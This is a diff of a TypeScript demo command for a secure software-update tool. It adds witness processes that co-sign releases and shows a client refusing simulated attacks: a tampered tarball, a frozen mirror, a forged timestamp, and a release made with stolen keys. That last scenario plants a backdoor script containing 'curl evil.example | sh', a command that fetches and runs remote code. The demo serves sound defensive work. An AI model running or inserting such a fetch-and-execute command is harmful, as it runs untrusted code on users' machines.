@@ -1,28 +1,39 @@
-// cli/commands/demo.ts: `cairn demo` (what `npm start` runs): the whole TUF flow on this machine
-// with embedded defaults. A publisher makes a repository of real files with offline root keys
-// (threshold 2), a delegated role and succinct hash bins; a mirror serves it on 127.0.0.1; a
-// fresh client pins the first root, refreshes and downloads verified targets, printing what it
-// checked at each step; then a malicious mirror and a frozen mirror are refused, and a second
-// release with a root rotation is picked up.
+// cli/commands/demo.ts: `cairn demo` (what `npm start` runs): the whole flow on this machine with
+// embedded defaults. A publisher makes a repository of real files with offline root keys
+// (threshold 2), a delegated role and succinct hash bins; four witnesses run as separate
+// processes (`cairn witness serve`) and co-sign every release into the release log; a mirror
+// serves the repository on 127.0.0.1; a fresh client pins the first root and the genesis block,
+// refreshes (checking the TUF metadata, the co-signed skip path and the freshness of the head)
+// and downloads verified targets, printing what it checked at each step. Then attacks are
+// refused (a malicious mirror, a frozen mirror, a forged timestamp, a release the witnesses
+// never saw), and further releases, one with a root rotation and one with a witness killed, are
+// co-signed and picked up through the skipchain.
 import type { Command } from 'commander';
+import { spawn, type ChildProcess } from 'node:child_process';
 import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
-import { createHash } from 'node:crypto';
+import { createHash, generateKeyPairSync } from 'node:crypto';
+import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { create as createTar } from 'tar';
-import { generateEd25519, type Signer } from '../../crypto/signer.js';
 import { writeKeyFile } from '../../crypto/key-file.js';
+import type { Signer } from '../../crypto/signer.js';
 import { CairnError } from '../../errors/index.js';
 import {
   addTargets, collectTargetSources, delegatePaths, delegateSuccinct, initRepository, publish, rotateRoot,
 } from '../../repo/index.js';
 import { startStaticServer, type RunningServer } from '../../server/static-server.js';
-import { Updater, type RefreshReport } from '../../tuf/index.js';
+import { Updater } from '../../tuf/index.js';
+import { WitnessedUpdater, initLogAnchor, type WitnessedRefreshReport } from '../../client/index.js';
+import { initWitness } from '../../witness/config.js';
 import type { Output } from '../output.js';
 import type { CliContext } from './types.js';
 
 const PROJECT_ROOT = resolve(fileURLToPath(new URL('../../..', import.meta.url)));
+const CAIRN_BIN = join(PROJECT_ROOT, 'bin', 'cairn.js');
+const WITNESSES = 4;
+const THRESHOLD = 3;
 
 interface DemoOptions {
   dir?: string;
@@ -32,15 +43,16 @@ interface DemoOptions {
 interface DemoSummary {
   workDir: string;
   mirror: string;
+  genesis: string;
   downloaded: Array<{ target: string; length: number; sha256: string }>;
   refused: Array<{ attack: string; code: string }>;
-  secondRelease: { rootVersions: number[]; target: string };
+  later: { rootVersions: number[]; blocksCaughtUp: number; linksFetched: number; headSigners: number; target: string };
 }
 
 export function register(program: Command, context: CliContext): void {
   program
     .command('demo')
-    .description('run the whole flow locally: publish a repository, serve it, verify downloads, refuse attacks')
+    .description('run the whole flow locally: publish, witnesses co-sign, serve, verify downloads, refuse attacks')
     .option('--dir <dir>', 'work directory (default: a new temporary directory)')
     .option('--keep', 'keep the work directory afterwards', false)
     .action(async (opts: DemoOptions) => {
@@ -50,7 +62,7 @@ export function register(program: Command, context: CliContext): void {
         const summary = await runDemo(workDir, out);
         out.result(summary, [
           '',
-          `demo finished: ${summary.downloaded.length} targets verified and installed, ${summary.refused.length} attacks refused.`,
+          `demo finished: ${summary.downloaded.length} targets verified and installed, ${summary.refused.length} attacks refused, every release co-signed by the witnesses.`,
           opts.keep || opts.dir ? `work directory kept: ${workDir}` : 'work directory removed (use --keep to look at it).',
         ]);
       } finally {
@@ -59,66 +71,99 @@ export function register(program: Command, context: CliContext): void {
     });
 }
 
+interface KeyPair {
+  file: string;
+  signer: Signer;
+}
+
 async function runDemo(work: string, out: Output): Promise<DemoSummary> {
   const say = (line = ''): void => out.info(line);
   const step = (title: string): void => say(`\n== ${title}`);
-
-  step('1. publisher: keys');
-  const keys = { root: [key(), key()], targets: key(), snapshot: key(), timestamp: key(), apps: key(), bins: key() };
-  await mkdir(join(work, 'keys'), { recursive: true });
-  for (const [name, k] of Object.entries(keys)) {
-    for (const [i, one] of (Array.isArray(k) ? k : [k]).entries()) {
-      const file = join(work, 'keys', `${name}${Array.isArray(k) ? `-${i + 1}` : ''}.json`);
-      await writeKeyFile(file, one.privateKey);
-      say(`  ${file.slice(work.length + 1).padEnd(20)} Ed25519 ${one.signer.keyid.slice(0, 16)}  (mode 0600)`);
-    }
-  }
-
-  step('2. publisher: a repository of real files');
-  const repo = join(work, 'repo');
-  const signer = (k: { signer: Signer }): Signer => k.signer;
-  await initRepository(repo, {
-    roles: {
-      root: { keys: keys.root.map((k) => k.signer.publicKey), threshold: 2 },
-      targets: { keys: [keys.targets.signer.publicKey], threshold: 1 },
-      snapshot: { keys: [keys.snapshot.signer.publicKey], threshold: 1 },
-      timestamp: { keys: [keys.timestamp.signer.publicKey], threshold: 1 },
-    },
-    signers: [...keys.root.map(signer), signer(keys.targets)],
-  });
-  say('  root: 2 offline keys, threshold 2; targets, snapshot, timestamp: one key each; consistent snapshots');
-  await delegatePaths(repo, 'apps', ['apps/*/*'], { keys: [keys.apps.signer.publicKey], threshold: 1, terminating: true, signers: [signer(keys.targets), signer(keys.apps)] });
-  await delegateSuccinct(repo, 'apps-bin', 4, { from: 'apps', keys: [keys.bins.signer.publicKey], threshold: 1, signers: [signer(keys.apps), signer(keys.bins)] });
-  say('  targets delegates apps/*/* to role "apps" (terminating); apps spreads its targets over 16 succinct hash bins (TAP 15)');
-
-  const src = join(work, 'release-1');
-  await mkdir(join(src, 'apps', 'cairn'), { recursive: true });
-  await createTar({ gzip: true, portable: true, mtime: new Date(0), cwd: PROJECT_ROOT, file: join(src, 'apps', 'cairn', 'cairn-src.tar.gz') }, ['src']);
-  await cp(join(PROJECT_ROOT, 'README.md'), join(src, 'README.md'));
-  await cp(join(PROJECT_ROOT, 'docs', 'architecture.md'), join(src, 'apps', 'cairn', 'architecture.md'));
-  await cp(join(PROJECT_ROOT, 'package.json'), join(src, 'apps', 'cairn', 'package.json'));
-  const { sources } = await collectTargetSources([src], { baseDir: src });
-  const { added } = await addTargets(repo, sources, {
-    custom: { release: '1' },
-    signers: [signer(keys.targets), signer(keys.apps), signer(keys.bins)],
-  });
-  for (const t of added) say(`  added ${t.path.padEnd(32)} ${String(t.length).padStart(8)} bytes -> role ${t.role}`);
-  const first = await publish(repo, { signers: [signer(keys.snapshot), signer(keys.timestamp)] });
-  say(`  published: root v${first.rootVersion}, snapshot v${first.snapshotVersion}, timestamp v${first.timestampVersion}, ${first.published.length} roles, ${first.targetFiles} target files`);
-
-  step('3. mirror: serve repo/public read-only on loopback');
-  const mirror = await startStaticServer({ root: join(repo, 'public') });
-  const servers: RunningServer[] = [mirror];
+  const children: ChildProcess[] = [];
+  const servers: RunningServer[] = [];
   try {
-    say(`  ${mirror.url}  (mirrors are untrusted: the client checks everything)`);
+    step('1. publisher: keys');
+    await mkdir(join(work, 'keys'), { recursive: true });
+    const key = async (name: string): Promise<KeyPair> => {
+      const file = join(work, 'keys', `${name}.json`);
+      const signer = await writeKeyFile(file, generateKeyPairSync('ed25519').privateKey);
+      say(`  keys/${name}.json`.padEnd(26) + ` Ed25519 ${signer.keyid.slice(0, 16)}  (mode 0600)`);
+      return { file, signer };
+    };
+    const keys = {
+      root: [await key('root-1'), await key('root-2')],
+      targets: await key('targets'),
+      snapshot: await key('snapshot'),
+      timestamp: await key('timestamp'),
+      apps: await key('apps'),
+      bins: await key('bins'),
+    };
+    const online = [keys.snapshot.signer, keys.timestamp.signer];
 
-    step('4. client: pin the first root, refresh, download');
+    step('2. publisher: a repository of real files');
+    const repo = join(work, 'repo');
+    await initRepository(repo, {
+      roles: {
+        root: { keys: keys.root.map((k) => k.signer.publicKey), threshold: 2 },
+        targets: { keys: [keys.targets.signer.publicKey], threshold: 1 },
+        snapshot: { keys: [keys.snapshot.signer.publicKey], threshold: 1 },
+        timestamp: { keys: [keys.timestamp.signer.publicKey], threshold: 1 },
+      },
+      signers: [...keys.root.map((k) => k.signer), keys.targets.signer],
+    });
+    say('  root: 2 offline keys, threshold 2; targets, snapshot, timestamp: one key each; consistent snapshots');
+    await delegatePaths(repo, 'apps', ['apps/*/*'], { keys: [keys.apps.signer.publicKey], threshold: 1, terminating: true, signers: [keys.targets.signer, keys.apps.signer] });
+    await delegateSuccinct(repo, 'apps-bin', 4, { from: 'apps', keys: [keys.bins.signer.publicKey], threshold: 1, signers: [keys.apps.signer, keys.bins.signer] });
+    say('  targets delegates apps/*/* to role "apps" (terminating); apps spreads its targets over 16 succinct hash bins (TAP 15)');
+    const src = join(work, 'release-1');
+    await mkdir(join(src, 'apps', 'cairn'), { recursive: true });
+    await createTar({ gzip: true, portable: true, mtime: new Date(0), cwd: PROJECT_ROOT, file: join(src, 'apps', 'cairn', 'cairn-src.tar.gz') }, ['src']);
+    await cp(join(PROJECT_ROOT, 'README.md'), join(src, 'README.md'));
+    await cp(join(PROJECT_ROOT, 'docs', 'architecture.md'), join(src, 'apps', 'cairn', 'architecture.md'));
+    await cp(join(PROJECT_ROOT, 'package.json'), join(src, 'apps', 'cairn', 'package.json'));
+    const { added } = await addTargets(repo, (await collectTargetSources([src], { baseDir: src })).sources, {
+      custom: { release: '1' },
+      signers: [keys.targets.signer, keys.apps.signer, keys.bins.signer],
+    });
+    for (const t of added) say(`  added ${t.path.padEnd(32)} ${String(t.length).padStart(8)} bytes -> role ${t.role}`);
+    const first = await publish(repo, { signers: online });
+    say(`  published: root v${first.rootVersion}, snapshot v${first.snapshotVersion}, timestamp v${first.timestampVersion}, ${first.published.length} roles, ${first.targetFiles} target files`);
+
+    step(`3. witnesses: ${WITNESSES} independent processes, threshold ${THRESHOLD}`);
+    const ports = await freePorts(WITNESSES);
+    const witnessUrls: string[] = [];
+    const witnessDirs: string[] = [];
+    for (let i = 0; i < WITNESSES; i++) {
+      const dir = join(work, 'witnesses', `w${i + 1}`);
+      const url = `http://127.0.0.1:${ports[i]}`;
+      const { entry } = await initWitness(dir, { name: `w${i + 1}`, address: url });
+      witnessUrls.push(url);
+      witnessDirs.push(dir);
+      say(`  w${i + 1}  ${url}  key ${entry.key.slice(0, 16)}  (proof of possession ${entry.pop.slice(0, 12)}...)`);
+    }
+    await Promise.all(witnessDirs.map(async (dir, i) => {
+      children[i] = await startWitness(dir, ports[i]!);
+    }));
+    say(`  each runs \`cairn witness serve\` with its own key and SQLite state`);
+    const rootKeyArgs = keys.root.flatMap((k) => ['--key', k.file]);
+    const init = await cairnJson(['log', 'init', repo, ...witnessUrls.flatMap((u) => ['--witness', u]), '--threshold', String(THRESHOLD), ...rootKeyArgs]);
+    const genesis = String(init.genesis);
+    say(`  cairn log init: each witness checked release 1 and the roster (proofs of possession, root authorization by 2 of 2 root keys)`);
+    say(`  genesis block ${genesis}: the clients' trust anchor, with root.json`);
+
+    step('4. mirror: serve repo/public read-only on loopback');
+    const mirror = await startStaticServer({ root: join(repo, 'public') });
+    servers.push(mirror);
+    say(`  ${mirror.url}  (metadata/, targets/ and log/; mirrors are untrusted: the client checks everything)`);
+
+    step('5. client: pin the first root and the genesis block, refresh, download');
     const clientDir = join(work, 'client');
-    const rootV1 = await readFile(join(repo, 'public', 'metadata', '1.root.json'));
-    await Updater.initTrustedRoot(join(clientDir, 'metadata'), rootV1);
-    say('  trust anchor: 1.root.json (self-signed by 2 of 2 root keys)');
-    const client = (url: string): Updater =>
-      new Updater({ metadataDir: join(clientDir, 'metadata'), metadataBaseUrl: `${url}/metadata`, targetBaseUrl: `${url}/targets`, targetDir: join(clientDir, 'targets') });
+    const metadataDir = join(clientDir, 'metadata');
+    await Updater.initTrustedRoot(metadataDir, await readFile(join(repo, 'public', 'metadata', '1.root.json')));
+    await initLogAnchor(metadataDir, { hash: genesis });
+    say('  trust anchor: 1.root.json (self-signed by 2 of 2 root keys) and the genesis block hash');
+    const client = (url: string, now?: () => Date): WitnessedUpdater =>
+      new WitnessedUpdater({ metadataDir, metadataBaseUrl: `${url}/metadata`, targetBaseUrl: `${url}/targets`, targetDir: join(clientDir, 'targets'), ...(now ? { now } : {}) });
     const updater = client(mirror.url);
     printRefresh(say, await updater.refresh());
     const downloaded: DemoSummary['downloaded'] = [];
@@ -127,21 +172,12 @@ async function runDemo(work: string, out: Output): Promise<DemoSummary> {
       if (!info) throw new Error(`demo: ${t.path} not found`);
       const path = await updater.downloadTarget(info);
       downloaded.push({ target: t.path, length: info.length, sha256: info.hashes.sha256! });
-      say(`  ok  ${t.path.padEnd(32)} found via ${t.role === 'targets' ? 'targets' : `targets -> apps -> ${t.role}`}; length ${info.length} and sha256 ${info.hashes.sha256!.slice(0, 12)} verified -> ${path.slice(work.length + 1)}`);
+      say(`  ok  ${t.path.padEnd(30)} via ${t.role === 'targets' ? 'targets' : `targets -> apps -> ${t.role}`}; length ${info.length}, sha256 ${info.hashes.sha256!.slice(0, 12)} verified -> ${path.slice(work.length + 1)}`);
     }
 
-    step('5. attacks: a malicious mirror and a frozen mirror');
+    step('6. attacks');
     const before = await fingerprint(clientDir);
     const refused: DemoSummary['refused'] = [];
-    const evil = join(work, 'evil-mirror');
-    await cp(join(repo, 'public'), evil, { recursive: true });
-    const tarball = added.find((t) => t.path.endsWith('.tar.gz'))!;
-    const evilFile = join(evil, 'targets', 'apps', 'cairn', `${tarball.sha256}.cairn-src.tar.gz`);
-    const bytes = await readFile(evilFile);
-    bytes[bytes.length >> 1] = bytes[bytes.length >> 1]! ^ 0xff;
-    await writeFile(evilFile, bytes);
-    const evilServer = await startStaticServer({ root: evil });
-    servers.push(evilServer);
     const attempt = async (attack: string, fn: () => Promise<unknown>): Promise<void> => {
       try {
         await fn();
@@ -152,48 +188,153 @@ async function runDemo(work: string, out: Output): Promise<DemoSummary> {
         say(`  refused  ${attack}: [${e.code}] ${e.message}`);
       }
     };
-    await attempt('a tarball with one byte flipped', async () => {
+    const evil = join(work, 'evil-mirror');
+    await cp(join(repo, 'public'), evil, { recursive: true });
+    const tarball = added.find((t) => t.path.endsWith('.tar.gz'))!;
+    const evilFile = join(evil, 'targets', 'apps', 'cairn', `${tarball.sha256}.cairn-src.tar.gz`);
+    const bytes = await readFile(evilFile);
+    bytes[bytes.length >> 1] = bytes[bytes.length >> 1]! ^ 0xff;
+    await writeFile(evilFile, bytes);
+    const evilServer = await startStaticServer({ root: evil });
+    servers.push(evilServer);
+    await attempt('a mirror serving the tarball with one byte flipped', async () => {
       const u = client(evilServer.url);
       await u.downloadTarget((await u.getTargetInfo(tarball.path))!, join(clientDir, 'evil-download'));
     });
-    await attempt('a freeze (the same metadata replayed 30 days later)', () =>
-      new Updater({ metadataDir: join(clientDir, 'metadata'), metadataBaseUrl: `${mirror.url}/metadata`, now: () => new Date(Date.now() + 30 * 86_400_000) }).refresh(),
+    await attempt('a frozen mirror (the same metadata and head replayed 30 days later)', () =>
+      client(mirror.url, () => new Date(Date.now() + 30 * 86_400_000)).refresh(),
     );
     const timestampPath = join(evil, 'metadata', 'timestamp.json');
     const forged = JSON.parse(await readFile(timestampPath, 'utf8')) as { signed: { version: number } };
     forged.signed.version += 1;
     await writeFile(timestampPath, JSON.stringify(forged));
     await attempt('a timestamp altered after signing', () => client(evilServer.url).refresh());
+    // A thief with every developer and online key publishes without the witnesses.
+    const stolen = join(work, 'stolen-repo');
+    await cp(repo, stolen, { recursive: true });
+    await rm(join(stolen, 'state', 'log.json'), { force: true });
+    const backdoor = join(work, 'backdoor');
+    await mkdir(join(backdoor, 'apps', 'cairn'), { recursive: true });
+    await writeFile(join(backdoor, 'apps', 'cairn', 'update.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
+    await addTargets(stolen, (await collectTargetSources([backdoor], { baseDir: backdoor })).sources, { signers: [keys.bins.signer] });
+    await publish(stolen, { signers: online });
+    const stolenServer = await startStaticServer({ root: join(stolen, 'public') });
+    servers.push(stolenServer);
+    await attempt('a release signed with stolen keys that the witnesses never saw', () => client(stolenServer.url).refresh());
     if ((await fingerprint(clientDir)) !== before) throw new Error('demo: a refused attack changed the client\'s files');
-    say('  checked: the client\'s trusted metadata and installed files are byte-identical to before the attacks');
+    say('  checked: the client\'s trusted metadata, log anchor and installed files are byte-identical to before the attacks');
 
-    step('6. second release with a root rotation');
-    const newRoot = [key(), key()];
-    await rotateRoot(repo, { roles: { root: { keys: newRoot.map((k) => k.signer.publicKey), threshold: 2 } }, signers: [...keys.root, ...newRoot].map(signer) });
-    say('  root v2: new root keys, signed by 2 of 2 old AND 2 of 2 new root keys');
-    const src2 = join(work, 'release-2');
-    await mkdir(join(src2, 'apps', 'cairn'), { recursive: true });
-    await writeFile(join(src2, 'apps', 'cairn', 'CHANGES.txt'), 'release 2: rotated root keys\n');
-    const second = await addTargets(repo, (await collectTargetSources([src2], { baseDir: src2 })).sources, { custom: { release: '2' }, signers: [signer(keys.bins)] });
-    await publish(repo, { signers: [signer(keys.snapshot), signer(keys.timestamp)] });
+    step('7. more releases: a root rotation, then one witness killed');
+    const newRoot = [await key('root-3'), await key('root-4')];
+    await rotateRoot(repo, { roles: { root: { keys: newRoot.map((k) => k.signer.publicKey), threshold: 2 } }, signers: [...keys.root, ...newRoot].map((k) => k.signer) });
+    say('  root v2 staged: new root keys, signed by 2 of 2 old AND 2 of 2 new root keys');
+    const onlineKeyArgs = ['--key', keys.snapshot.file, '--key', keys.timestamp.file];
+    let lastTarget = '';
+    for (let release = 2; release <= 6; release++) {
+      if (release === 4) {
+        children[WITNESSES - 1]!.kill('SIGKILL');
+        say(`  w${WITNESSES} killed (SIGKILL): ${WITNESSES - 1} of ${WITNESSES} witnesses left, threshold ${THRESHOLD}`);
+      }
+      const dir = join(work, `release-${release}`);
+      await mkdir(join(dir, 'apps', 'cairn'), { recursive: true });
+      lastTarget = `apps/cairn/CHANGES-${release}.txt`;
+      await writeFile(join(dir, lastTarget), `release ${release}\n`);
+      await addTargets(repo, (await collectTargetSources([dir], { baseDir: dir })).sources, { custom: { release: String(release) }, signers: [keys.bins.signer] });
+      const published = await cairnJson(['repo', 'publish', repo, ...onlineKeyArgs]);
+      const log = published.log as { index: number; rounds: Array<{ what: string; cosigners: string[] }> } | undefined;
+      if (!log) throw new Error('demo: publish did not go through the witnesses');
+      const approval = log.rounds[0]!;
+      say(`  release ${release}: block ${log.index} co-signed by ${approval.cosigners.length} witnesses (${approval.cosigners.join(', ')}) before anything was written`);
+    }
+
+    step('8. the client catches up through the skipchain');
     const next = client(mirror.url);
     const report = await next.refresh();
     printRefresh(say, report);
-    const changes = second.added[0]!;
-    const info = (await next.getTargetInfo(changes.path))!;
+    const info = (await next.getTargetInfo(lastTarget))!;
     await next.downloadTarget(info);
-    say(`  ok  ${changes.path}: verified with the rotated root`);
+    say(`  ok  ${lastTarget}: verified under root v${report.root.version}, recorded in block ${report.log.head.index}`);
 
     return {
       workDir: work,
       mirror: mirror.url,
+      genesis,
       downloaded,
       refused,
-      secondRelease: { rootVersions: report.rootVersions, target: changes.path },
+      later: {
+        rootVersions: report.rootVersions,
+        blocksCaughtUp: report.log.blocksCaughtUp,
+        linksFetched: report.log.links,
+        headSigners: report.log.head.signers,
+        target: lastTarget,
+      },
     };
   } finally {
     for (const s of servers) await s.close();
+    for (const c of children) if (c && c.exitCode === null && c.signalCode === null) c.kill('SIGTERM');
   }
+}
+
+function printRefresh(say: (line: string) => void, report: WitnessedRefreshReport): void {
+  say(`  refresh at ${report.referenceTime}:`);
+  for (const s of report.steps) say(`    ok  ${s}`);
+}
+
+/** Runs `cairn --json ARGS` as a separate process and returns its JSON result. */
+function cairnJson(args: string[]): Promise<Record<string, unknown>> {
+  return new Promise((resolveRun, reject) => {
+    const child = spawn(process.execPath, [CAIRN_BIN, '--json', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
+    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
+    child.on('error', reject);
+    child.on('close', (code) => {
+      if (code !== 0) return reject(new Error(`cairn ${args.slice(0, 2).join(' ')} failed (exit ${code}): ${stdout}${stderr}`));
+      try {
+        resolveRun(JSON.parse(stdout.slice(stdout.indexOf('{'))) as Record<string, unknown>);
+      } catch {
+        reject(new Error(`cairn ${args.slice(0, 2).join(' ')}: output is not JSON: ${stdout}`));
+      }
+    });
+  });
+}
+
+/** Starts `cairn witness serve` for `dir` and resolves once it listens. */
+function startWitness(dir: string, port: number): Promise<ChildProcess> {
+  return new Promise((resolveStart, reject) => {
+    const child = spawn(process.execPath, [CAIRN_BIN, 'witness', 'serve', '--dir', dir, '--port', String(port)], { stdio: ['ignore', 'pipe', 'pipe'] });
+    let output = '';
+    const timer = setTimeout(() => reject(new Error(`witness in ${dir} did not start within 60 s: ${output}`)), 60_000);
+    child.stdout.on('data', (d: Buffer) => {
+      output += d.toString();
+      if (output.includes('listening at')) {
+        clearTimeout(timer);
+        resolveStart(child);
+      }
+    });
+    child.stderr.on('data', (d: Buffer) => (output += d.toString()));
+    child.on('exit', (code) => {
+      clearTimeout(timer);
+      reject(new Error(`witness in ${dir} exited (${code}) before listening: ${output}`));
+    });
+  });
+}
+
+/** Free TCP ports on 127.0.0.1. */
+async function freePorts(n: number): Promise<number[]> {
+  const ports: number[] = [];
+  for (let i = 0; i < n; i++) {
+    ports.push(await new Promise<number>((resolvePort, reject) => {
+      const s = createServer();
+      s.once('error', reject);
+      s.listen(0, '127.0.0.1', () => {
+        const { port } = s.address() as { port: number };
+        s.close(() => resolvePort(port));
+      });
+    }));
+  }
+  return ports;
 }
 
 /** SHA-256 over every file name and content under `dir`, to show that a refusal wrote nothing. */
@@ -202,13 +343,4 @@ async function fingerprint(dir: string): Promise<string> {
   const entries = (await readdir(dir, { recursive: true, withFileTypes: true })).filter((e) => e.isFile());
   for (const e of entries.map((x) => join(x.parentPath, x.name)).sort()) hash.update(e).update(await readFile(e));
   return hash.digest('hex');
-}
-
-function key(): ReturnType<typeof generateEd25519> {
-  return generateEd25519();
-}
-
-function printRefresh(say: (line: string) => void, report: RefreshReport): void {
-  say(`  refresh at ${report.referenceTime}:`);
-  for (const s of report.steps) say(`    ok  ${s}`);
 }
